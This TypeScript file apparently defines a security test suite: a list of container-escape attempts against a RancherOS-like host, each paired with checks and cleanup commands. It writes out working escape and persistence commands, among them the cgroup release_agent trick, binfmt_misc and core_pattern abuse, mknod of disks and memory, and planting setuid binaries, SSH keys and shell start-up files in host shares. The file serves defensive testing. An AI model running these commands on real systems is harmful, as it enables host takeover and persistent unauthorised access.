/**
 * The attempts, from a container with every privilege that Docker has to give (test/lib/attack.ts: `everything`; the plane's, or the machine's, root is /h).
 * Verbs of `attack` are in the C files beside this. Variables: DISK ("b 254 16"), CANARY (the number of a process of the machine's), NS_MNT, NS_USER, …
 * (the machine's namespaces, `mnt:[4026531841]`).
 */
import type { Attack } from '../lib/attack.ts';

const same = { control: 'same' } as const;

const processes: readonly Attack[] = [
  { name: 'see a process of the system', script: 'attack see ros rsyslogd sshd chronyd corral-canary', ...same },
  { name: 'signal one by its number', script: 'attack signal $CANARY', look: 'sudo ls /run/corral-canary/hit-signal', undo: 'sudo rm -f /run/corral-canary/hit-signal', ...same },
  { name: 'ptrace one', script: 'attack trace', ...same },
  { name: 'setns into its namespaces', script: 'attack enter "$NS_MNT" "$NS_PID" "$NS_NET" "$NS_IPC" "$NS_UTS" "$NS_CGROUP" "$NS_USER"', ...same },
  { name: 'climb to the parent user namespace', script: 'attack climb "$NS_USER"', ...same },
  { name: 'find it in the list of mount namespaces', script: 'attack list-mounts "$NS_MNT"', ...same },
  { name: 'its shared memory (--ipc host)', script: 'attack shared-memory', ...same },
  { name: 'the machine\'s name (--uts host)', script: 'attack hostname stolen', look: 'hostname | grep -x stolen', undo: 'sudo hostname "$(cat /run/etc/hostname)"', ...same },
  { name: 'a real-time priority', script: 'attack realtime', ...same },
  { name: 'be spared by the OOM killer', script: 'echo -1000 >/proc/self/oom_score_adj || exit 1; echo "oom_score_adj is $(cat /proc/self/oom_score_adj)"', ...same },
];

const files: readonly Attack[] = [
  { name: 'the socket of System Docker', script: 'attack reach ask /run/system-docker.sock /var/run/system-docker.sock', ...same },
  { name: 'the control API', script: 'attack reach ask /run/ros/control.sock', ...same },
  { name: 'the configuration', script: 'attack reach read /var/lib/rancher/conf /state/var/lib/rancher/conf /run/ros/applied.json', ...same },
  { name: 'the ssh host keys', script: 'attack reach read /var/lib/rancher/ssh/ssh_host_ed25519_key', ...same },
  { name: 'a secret in /run, by /proc/1/root', script: 'attack reach read /run/corral-canary/secret', ...same },
  { name: 'sockets without a name, and others', script: 'grep -m 1 -e system-docker.sock -e /run/ros/ /proc/net/unix', ...same },
  { name: 'open_by_handle_at (shocker)', script: 'attack by-handle /h/home /h/opt /h/mnt /h/var/lib/docker /h/var/lib/user-docker /h/home/rancher', ...same },
  { name: 'uncover what a mount hides', script: 'attack uncover /h/media /h/run/user-docker /h/usr/sbin/dockerd', ...same },
  { name: 'loosen ro, nosuid, nodev of a mount', script: 'attack loosen /h/home /h/opt /h/run/user-docker /h/run/etc', ...same },
  { name: 'write to the engine\'s programs', script: 'for f in /h/usr/sbin/dockerd /h/usr/bin/containerd /h/usr/bin/crun /h/usr/bin/tini-static /proc/1/exe; do attack open $f write && exit 0; done; exit 1', control: { none: 'they are on a read-only squashfs, for the machine\'s root too' } },
];

/** A node made here, in every place that might take one. */
const node = (words: string): string => `
for at in /tmp /h/tmp /h/run /h/home /h/opt /h/mnt /h/var/lib/docker; do
  [ -d $at ] || continue
  rm -f $at/.node
  mknod $at/.node ${words} && attack open $at/.node && found=yes
  rm -f $at/.node
  [ -z "$found" ] || { echo "opened one in $at"; exit 0; }
done 2>&1
exit 1`;

const devices: readonly Attack[] = [
  { name: 'open a device that is there', script: 'attack devices /dev /h/dev /h/dev/mapper', ...same },
  { name: 'mknod a disk', script: node('$DISK'), ...same },
  { name: 'mknod the memory', script: node('c 1 1'), ...same },
  { name: 'mknod the kernel\'s log', script: node('c 1 11'), ...same },
  { name: 'a node that the machine\'s root left in a share', script: 'attack open /h/opt/corral-node', control: { none: 'the share is nodev for everybody; the node itself is "mknod a disk"' } },
  { name: 'mount a disk', script: 'mknod /tmp/disk $DISK; attack mount ext4 /tmp/disk /tmp/mnt; s=$?; umount /tmp/mnt 2>/dev/null; exit $s', ...same },
  { name: 'mount the devices (devtmpfs)', script: 'attack mount devtmpfs none /m; s=$?; umount /m 2>/dev/null; exit $s', ...same },
  { name: 'mount the kernel\'s insides', script: 'for t in debugfs tracefs securityfs pstore; do attack mount $t none /m && { umount /m; echo "mounted $t"; exit 0; }; done; exit 1', ...same },
  { name: 'the firmware\'s variables', script: 'attack mount efivarfs none /m', control: { none: 'the machine under test has no EFI' } },
];

/** Of the container's own namespaces, not the machine's. */
const own = ['/proc/sys/net', '/proc/sys/user', '/proc/sys/fs/mqueue', '/proc/pressure', ...['sem', 'shm', 'msg', 'auto_msgmni', 'hostname', 'domainname', 'ns_last_pid'].map((name) => `/proc/sys/kernel/${name}`)];

const kernel: readonly Attack[] = [
  { name: 'core_pattern', script: 'p=/proc/sys/kernel/core_pattern; was=$(cat $p); echo "$was" >$p || exit 1; echo "wrote \\"$was\\""', ...same },
  { name: 'core_pattern in a fresh /proc', script: 'mount -t proc proc /m; p=/m/sys/kernel/core_pattern; was=$(cat $p); echo "$was" >$p; s=$?; umount /m; [ $s = 0 ] || exit 1; echo "wrote \\"$was\\""', ...same },
  { name: 'sysrq-trigger', script: 'echo h >/proc/sysrq-trigger || exit 1; echo written', ...same },
  { name: 'anything writable in /proc', script: `attack writable /proc ${own.join(' ')}`, ...same },
  { name: 'anything writable in /sys', script: 'attack writable /sys /sys/fs/cgroup /net/', ...same },
  { name: 'parameters of the kernel\'s modules', script: 'attack writable /sys/module', ...same },
  { name: 'load a module', script: 'attack load /lib/dummy.ko dummy', ...same },
  { name: 'reboot(2)', script: 'attack reboot', ...same },
  { name: 'kexec', script: 'attack kexec', ...same },
  { name: 'read the kernel\'s log', script: 'attack kernel-log', ...same },
  { name: 'the kernel\'s memory (kcore)', script: 'attack open /proc/kcore', ...same },
  { name: 'the clock', script: 'attack set-time', ...same },
  { name: 'BPF programs of the machine', script: 'attack bpf', ...same },
  { name: 'counters of whole processors', script: 'attack perf', ...same },
  { name: 'the processor\'s ports (iopl)', script: 'attack ports', ...same },
  { name: 'process accounting', script: 'attack account', ...same },
  {
    name: 'a binary format for the machine', script: 'mount -t binfmt_misc none /m && echo ":corral:M::CORRAL::/bin/sh:" >/m/register; s=$?; umount /m 2>/dev/null; [ $s = 0 ]',
    look: 'sudo ls /run/corral-canary/formats/corral', undo: 'echo -1 | sudo tee /run/corral-canary/formats/corral', ...same,
  },
  {
    name: 'have the kernel load one of its own modules', script: 'chroot /h /usr/bin/ip link add corral77 type nlmon && chroot /h /usr/bin/ip link delete corral77 || exit 1; echo "made an interface of a kind that was not loaded"',
    look: 'grep -m 1 ^nlmon /proc/modules', undo: 'sudo modprobe -r nlmon', control: { none: 'any program with an own network namespace can, on any Linux' },
    open: 'the kernel loads what it is asked for by name, from the machine\'s own modules, all signed; nothing of the container\'s is loaded',
  },
];

const cgroups: readonly Attack[] = [
  {
    name: 'release_agent', script: `
attack mount cgroup cgroup /m none,name=corral || exit 1
cp /lib/agent /h/run/corral-canary/agent; mkdir -p /m/x
echo /run/corral-canary/agent >/m/release_agent && echo 1 >/m/x/notify_on_release && sh -c 'echo 0 >/m/x/cgroup.procs'; s=$?
sleep 2; rmdir /m/x; umount /m; [ $s = 0 ] || exit 1; echo "the agent was set"`,
    look: 'sudo ls /run/corral-canary/hit-agent', undo: 'sudo rm -f /run/corral-canary/hit-agent', ...same,
  },
  {
    name: 'lift the plane\'s own limits', script: `
d=/sys/fs/cgroup; [ -d $d/user/plane ] && d=$d/user
for f in memory.max memory.high memory.min pids.max cpu.weight cpu.max io.weight; do
  [ -e $d/$f ] || continue; was=$(cat $d/$f); echo "\${was%%
*}" >$d/$f && { echo "wrote $f"; exit 0; }
done 2>&1; [ -e $d/cgroup.type ] || echo "no such files at $d"; exit 1`, ...same,
  },
  { name: 'leave the plane\'s control group', script: 'sleep 5 >/dev/null 2>&1 & for f in /sys/fs/cgroup/system/engine /h/sys/fs/cgroup/system/engine; do echo $! >$f/cgroup.procs && { echo "moved to $f"; exit 0; }; done; exit 1', ...same },
  { name: 'and in a fresh cgroup2', script: 'mount -t cgroup2 none /m && [ -d /m/system ] && echo $$ >/m/system/engine/cgroup.procs; s=$?; umount /m; [ $s = 0 ] && echo "it has the system in it" && exit 0; echo "its root is the plane"; exit 1', ...same },
];

const network: readonly Attack[] = [
  { name: 'the machine\'s addresses', script: 'chroot /h /usr/bin/ip addr add 203.0.113.77/32 dev eth0 || exit 1; echo added', look: 'ip -4 -o addr | grep 203.0.113.77', undo: 'sudo ip addr del 203.0.113.77/32 dev eth0', ...same },
  { name: 'the machine\'s routes', script: 'chroot /h /usr/bin/ip route add blackhole 203.0.113.128/25 || exit 1; echo added', look: 'ip route | grep 203.0.113.128', undo: 'sudo ip route del blackhole 203.0.113.128/25', ...same },
  { name: 'the machine\'s packet filter', script: 'chroot /h /usr/sbin/nft add table inet corral_attack || exit 1; echo "added a table"', look: 'sudo nsenter -t 1 -m nft list tables | grep corral_attack', undo: 'sudo nsenter -t 1 -m nft delete table inet corral_attack', ...same },
  {
    name: 'lines in the kernel\'s log by the packet filter', script: `
chroot /h /usr/sbin/nft -f - <<'RULES' || exit 1
table inet corral_flood {
  chain c { type filter hook output priority 0; ip daddr 127.0.0.9 log prefix "corral-flood "; }
}
RULES
ping -c 1 -W 1 127.0.0.9 >/dev/null; chroot /h /usr/sbin/nft delete table inet corral_flood; echo "a packet was logged"`,
    look: 'sudo dmesg | grep -m 1 "corral-flood "', ...same,
  },
  { name: 'the network at the other end of eth0', script: 'attack peer uplane eth0', ...same },
  {
    name: 'what listens on the machine\'s loopback', script: `
attack tcp 127.7.7.7 4711 && exit 0
attack tcp 100.64.0.1 4711 && exit 0
# The plane's own loopback out of the way, and to the machine with it.
for f in /proc/sys/net/ipv4/conf/eth0/route_localnet /proc/sys/net/ipv4/conf/all/route_localnet; do echo 1 >$f; done
chroot /h /usr/bin/ip route del local 127.0.0.0/8 dev lo table local || exit 1
chroot /h /usr/bin/ip route add 127.7.7.7/32 via 100.64.0.1 dev eth0 && attack tcp 127.7.7.7 4711; s=$?
chroot /h /usr/bin/ip route del 127.7.7.7/32
chroot /h /usr/bin/ip route add local 127.0.0.0/8 dev lo table local src 127.0.0.1 scope host proto kernel
[ $s = 0 ]`, ...same,
  },
];

/** Files that user containers leave for the machine to find. `attack whoami` becomes root where it can. */
const planted: readonly Attack[] = [
  {
    name: 'a setuid program left in a share', script: 'for d in /h/home/rancher /h/opt /h/mnt /h/media; do cp /bin/attack $d/planted && chown 0:0 $d/planted && chmod 4755 $d/planted && made=$d; done; [ -n "$made" ] && echo "left in $made"',
    look: 'for d in /home/rancher /opt /mnt /media; do $d/planted whoami | grep root,; done', undo: 'sudo rm -f /home/rancher/planted /opt/planted /mnt/planted /media/planted',
    control: { onMachine: 'sudo install -m 4755 /run/corral-canary/attack /usr/bin/corral-suid && /usr/bin/corral-suid whoami; sudo rm /usr/bin/corral-suid' },
  },
  {
    name: 'a program with capabilities left in a share', script: 'for d in /h/home/rancher /h/opt /h/mnt /h/media; do cp /bin/attack $d/capable && attack give-capability $d/capable && made=$d; done; [ -n "$made" ] && echo "left in $made"',
    look: 'for d in /home/rancher /opt /mnt /media; do $d/capable whoami | grep root,; done', undo: 'sudo rm -f /home/rancher/capable /opt/capable /mnt/capable /media/capable',
    control: { onMachine: 'sudo cp /run/corral-canary/attack /usr/bin/corral-capable && sudo chmod 755 /usr/bin/corral-capable && sudo /usr/bin/corral-capable give-capability /usr/bin/corral-capable >/dev/null && /usr/bin/corral-capable whoami; sudo rm /usr/bin/corral-capable' },
  },
  {
    name: 'a link beside the socket of User Docker', script: 'ln -s /run/system-docker.sock /h/run/user-docker/corral-link && echo "left a link"',
    look: 'sudo test -S /run/user-docker/corral-link && echo it was followed', undo: 'sudo rm -f /run/user-docker/corral-link',
    control: { onMachine: 'sudo ln -s /run/system-docker.sock /run/corral-canary/link; sudo test -S /run/corral-canary/link && echo it was followed' },
  },
  {
    name: 'a key for rancher in /home/rancher/.ssh', script: 'd=/h/home/rancher/.ssh; mkdir -p $d && chmod 700 $d && chown 1100:1100 $d && echo "ssh-ed25519 AAAA corral-planted" >>$d/authorized_keys && chown 1100:1100 $d/authorized_keys && chmod 600 $d/authorized_keys && echo "left a key"',
    look: 'grep -q corral-planted ~/.ssh/authorized_keys && sudo -n true && sudo grep -h ^AuthorizedKeysFile /etc/ssh/sshd_config | grep .ssh/authorized_keys', undo: 'sed -i /corral-planted/d ~/.ssh/authorized_keys', ...same,
  },
  {
    name: 'a start-up file of rancher\'s shell', script: 'for f in .bash_profile .profile .bashrc .bash_logout .inputrc; do echo "# corral-planted" >>/h/home/rancher/$f && left="$left $f"; done; [ -n "$left" ] && echo "left$left"',
    look: 'grep -l corral-planted ~/.bash_profile ~/.profile ~/.bashrc ~/.bash_logout ~/.inputrc', undo: 'sudo sed -i /corral-planted/d /home/rancher/.bash_profile /home/rancher/.profile /home/rancher/.bashrc /home/rancher/.bash_logout /home/rancher/.inputrc', ...same,
  },
  {
    name: 'a start-up file in the place of one that is kept', script: 'cd /h/home/rancher && umount .bashrc .bash_profile 2>/dev/null; for how in "rm -f .bashrc" "mv .bash_profile old"; do $how && worked="$worked, $how"; done; [ -n "$worked" ] && echo "worked$worked"',
    look: 'test ! -e ~/.bashrc -o -e ~/old && echo it is gone', undo: 'rm -f ~/old; touch ~/.bashrc', ...same,
  },
  {
    name: 'a plugin for rancher\'s docker command', script: 'mkdir -p /h/home/rancher/.docker/cli-plugins && cp /bin/attack /h/home/rancher/.docker/cli-plugins/docker-planted && echo "left a plugin"',
    look: 'test -x ~/.docker/cli-plugins/docker-planted && echo it is there', undo: 'sudo rm -rf /home/rancher/.docker/cli-plugins', ...same,
  },
  {
    name: 'another home in the place of rancher\'s', script: 'cd /h/home && mv rancher corral-old || exit 1; mv corral-old rancher; echo "moved, and put back"', ...same,
  },
  {
    name: 'a script for the machine\'s next boot', script: 'mkdir -p /h/opt/rancher/bin && echo "#!/bin/sh" >/h/opt/rancher/bin/start.sh && echo "left a script"; mv /h/opt/rancher /h/opt/corral-old && echo "moved the folder"',
    look: 'sudo test -e /opt/rancher/bin/start.sh && echo it is there; test -e /opt/corral-old && echo it was moved', undo: 'sudo rm -rf /opt/rancher/bin /opt/corral-old', ...same,
  },
];

export const attacks: readonly Attack[] = [...processes, ...files, ...devices, ...kernel, ...cgroups, ...network, ...planted];
